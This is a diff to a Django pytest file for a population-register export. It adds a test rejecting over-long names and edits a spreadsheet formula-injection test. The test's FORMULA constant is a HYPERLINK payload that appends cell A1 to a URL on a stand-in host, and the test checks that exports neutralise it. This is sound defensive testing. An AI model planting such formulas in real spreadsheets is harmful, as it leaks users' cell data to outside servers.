@@ -17,6 +17,7 @@ from collections.abc import Callable
 from pathlib import Path
 
 import pytest
+from django.core.exceptions import ValidationError
 from django.core.management import call_command
 from django.core.management.base import CommandError
 from django.test import override_settings
@@ -171,7 +172,7 @@ def test_a_million_problems_keep_the_first_thousand_and_count_the_rest():
     assert "1000000" in str(rejected) or "1,000,000" in str(rejected)
 
 
-FORMULA = '=HYPERLINK("http://example.invalid/?leak="&A1,"点此")'
+FORMULA = '=HYPERLINK("http://x.invalid/?q="&A1,"点此")'
 
 
 def test_a_formula_in_a_name_comes_out_inert_in_xlsx_and_csv(small_register, tmp_path):
@@ -186,6 +187,14 @@ def test_a_formula_in_a_name_comes_out_inert_in_xlsx_and_csv(small_register, tmp
     with open(tmp_path / "p.csv", encoding="utf-8-sig", newline="") as f:
         names = [r["name"] for r in csv.DictReader(f)]
     assert "'" + FORMULA in names and FORMULA not in names
+
+
+def test_a_name_longer_than_the_register_holds_is_refused_with_a_reason(small_register):
+    """Before, the service passed it on: SQLite kept it, PostgreSQL failed (a 500)."""
+    with pytest.raises(ValidationError) as caught:
+        enrol_person(name="张" * 51, sex="F", birth_date=dt.date(1990, 1, 1),
+                     org=small_register.village, hukou_type="rural")
+    assert list(caught.value.message_dict) == ["name"]
 
 
 def test_numbers_and_ordinary_text_are_written_as_they_are(tmp_path):
